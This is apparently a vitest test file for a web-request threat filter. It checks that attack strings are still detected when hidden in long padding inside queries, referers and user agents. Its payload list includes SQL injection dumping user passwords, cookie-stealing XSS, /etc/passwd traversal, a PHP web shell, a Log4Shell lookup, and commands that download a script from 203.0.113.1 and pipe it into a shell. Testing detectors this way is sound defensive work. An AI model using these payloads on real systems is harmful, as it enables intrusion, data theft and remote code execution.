/** However much ordinary text stands around it, what is hostile in a request is found, and ordinary text is not. */
import { describe, expect, it, test } from "vitest";
import { Filter } from "../../host/filter.ts";
import { recordOfLine } from "../../host/record.ts";
import { Random } from "../../simulate/lib/random.ts";
import { RawInstance } from "./instance.ts";
import { BROWSER, feature, START, score, web } from "./traffic.ts";

/** What servers take as a request line. */
const LINE_BYTES = 8000;
const FOUND = 0.5;

const rng = new Random(7);
const WORDS =
  `time year people way day thing life child world school state family student group country problem hand part place
  case week company system program question work number night point home water room mother area money story fact month
  lot right study book eye job word business issue side kind head house service friend father power hour game line
  member law car city community name president team minute idea body information parent face level office door health`.split(
    /\s+/,
  );
const word = () => rng.pick(WORDS);
const text = (length: number, alphabet: string) =>
  Array.from({ length }, () => rng.pick([...alphabet])).join("");
const hex = (length: number) => text(length, "0123456789abcdef");
const token = (length: number) =>
  text(length, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_");

/** Pieces of ordinary text, as they stand in a query. */
const PIECES: Record<string, () => string> = {
  prose: () => `${word()}${rng.pick(["+", "+", "+", ",+", ".+"])}`,
  "a long path": () => `${word()}-${word()}%2F`,
  "click identifiers": () =>
    `&${rng.pick(["gclid", "fbclid", "state", "utm_content"])}=${token(rng.int(40, 120))}`,
  "one long token": () => token(40),
  numbers: () => `${rng.int(0, 99_999)},`,
  markup: () => "%3Cbr%3E",
  identifiers: () => `${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)},`,
  parameters: () => `&${word()}=${rng.pick([word(), String(rng.int(0, 999))])}`,
  "another script": () =>
    `${encodeURIComponent(rng.pick(["время", "человек", "который", "город", "жизнь"]))}+`,
  addresses: () =>
    encodeURIComponent(`https://www.${word()}.example/${word()}/${word()}?id=${rng.int(1, 1e6)}&`),
};

function padding(piece: () => string, bytes: number): string {
  let out = "";
  while (out.length < bytes) out += piece();
  return out.slice(0, bytes).replace(/%.?$/, "");
}

const PAYLOADS = [
  "1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-",
  "1)%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20-",
  "%22%3E%3Cscript%3Ealert(document.cookie)%3C/script%3E",
  "%3Cimg%20src=x%20onerror=alert(1)%3E",
  "../../../../../../etc/passwd",
  "..%2f..%2f..%2f..%2fwindows%2fwin.ini",
  ";wget%20http://203.0.113.1/a.sh%20-O-|sh",
  "$(curl%20http://203.0.113.1/x|bash)",
  "$%7Bjndi:ldap://203.0.113.1/a%7D",
  "%7B%7B7*7%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D",
  "php://filter/convert.base64-encode/resource=index.php",
  "%3C?php%20system($_GET[%27cmd%27]);?%3E",
];

const named = (value: string) => (value.startsWith("&") ? value.slice(1) : `note=${value}`);
const PLACES: Record<string, (payload: string, ordinary: string) => string> = {
  "in front of": (payload, ordinary) => `/s?id=${payload}&${named(ordinary)}`,
  behind: (payload, ordinary) => `/s?${named(ordinary)}&id=${payload}`,
  "in the middle of": (payload, ordinary) =>
    `/s?${named(ordinary.slice(0, LINE_BYTES / 2).replace(/%.?$/, ""))}&id=${payload}&${named(ordinary.slice(LINE_BYTES / 2 + 6).replace(/^[^&]?.?%?/, ""))}`,
  "in the value with": (payload, ordinary) => `/s?id=${ordinary.replace(/^&/, "")}+${payload}`,
  "below a path of": (payload, ordinary) => `/${ordinary.replace(/[&=+?]|%2F/g, "/")}/s?id=${payload}`,
};

const filter = Filter.load();
let sources = 0;
/** An address that has no past. */
const source = () => `100.${64 + (++sources >> 16)}.${(sources >> 8) & 255}.${sources & 255}`;
const threat = (target: string, headers = {}) =>
  score(filter, web(source(), target, START, 200, headers)).threat;

test("every payload is found where nothing stands beside it", () => {
  for (const payload of PAYLOADS) expect(threat(`/s?id=${payload}`), payload).toBeGreaterThan(FOUND);
});

describe.each(Object.entries(PIECES))("8 KB of %s", (_name, piece) => {
  it.each(Object.entries(PLACES))("hide nothing that stands %s them", (_place, target) => {
    const missed = PAYLOADS.filter((payload) => threat(target(payload, padding(piece, LINE_BYTES))) < FOUND);
    // What is hardly called where it stands alone may be the most ordinary stretch of so much text.
    expect(missed.length, missed.join("\n")).toBeLessThanOrEqual(1);
  });

  it("are no attack by themselves", () => {
    const lines = Array.from({ length: 20 }, () => threat(`/s?${named(padding(piece, LINE_BYTES))}`));
    expect(lines.filter((found) => found >= FOUND).length).toBeLessThanOrEqual(5);
  });
});

test.each([300, 1000, 3000, 8000, 60_000])("what stands behind %i bytes of a referer is read", (bytes) => {
  const missed: string[] = [];
  for (const payload of PAYLOADS) {
    const referer = `https://shop.example/?q=${padding(PIECES.prose as () => string, bytes)}&id=${payload}`;
    if (threat("/", { referer }) < FOUND) missed.push(payload);
  }
  expect(missed.length, missed.join("\n")).toBeLessThanOrEqual(1);
});

describe.each([600, 5000, 60_000])("in a user agent of %i bytes", (bytes) => {
  const around = (inside: string) => {
    const half = "like any other browser of that kind ".repeat(bytes / 72);
    return `${BROWSER} ${half}${inside} ${half}`;
  };

  it("a look-up by log4j is found", () => {
    const agent = around("$" + "{jndi:ldap://203.0.113.1/a}");
    expect(threat("/", { agent })).toBeGreaterThan(FOUND);
  });

  it("a scanner's name is found", () => {
    const event = score(filter, web(source(), "/", START, 200, { agent: around("sqlmap/1.7") }));
    expect(event.bot).toBeGreaterThan(0.9);
  });
});

test("words behind 4,096 bytes of a message count", () => {
  const ordinary = "the order of the day was packed and sent to its place ".repeat(200);
  const line = (end: string) => `2026-11-21 06:00:00 [INFO] shop - ${ordinary}${end}`;
  expect(feature(Filter.load(), line("then a fatal panic"), "words_fault")).toBe(2);
});

test("texts that differ behind 2,048 bytes have templates of their own", () => {
  const template = (end: string) =>
    score(filter, `2026-11-21 06:00:00 [INFO] shop - ${"so on ".repeat(500)}${end}`).tpl;
  expect(template("and done")).not.toBe(template("and lost"));
});

test("paths that differ beyond eight segments have one template", () => {
  const target = (end: string) =>
    score(filter, web("192.0.2.1", `/${"so-on/".repeat(500)}${end}`, START, 200)).tpl;
  expect(target("done")).toBe(target("lost"));
});

test("a long text's answer is the same whether features are written down or not", () => {
  const [plain, writing] = [new RawInstance(), new RawInstance()];
  const event = (instance: RawInstance, call: "smartlog" | "explain", line: string) => {
    const bytes = recordOfLine(Buffer.from(line));
    const at = instance.put(Buffer.from(bytes));
    const answer = instance.cString(instance.exports[call](0, 0, START, 0, at, Buffer.from(bytes).length));
    instance.exports.free(at);
    return JSON.parse(answer.toString()).smartlog;
  };
  for (const piece of Object.values(PIECES))
    for (const bytes of [257, 500, 4097, 9000]) {
      const long = padding(piece, bytes);
      const agent = `${BROWSER} (${long.replaceAll("+", " ")})`;
      const lines = [
        web("192.0.2.1", `/s?${named(long)}`, START, 200, { referer: `https://a.example/?${named(long)}` }),
        web("192.0.2.1", "/", START, 200, { agent }),
        `2026-11-21 06:00:00 [INFO] shop - ${long.replaceAll("+", " ")}`,
      ];
      for (const line of lines)
        expect(event(plain, "smartlog", line)).toEqual(event(writing, "explain", line));
    }
});
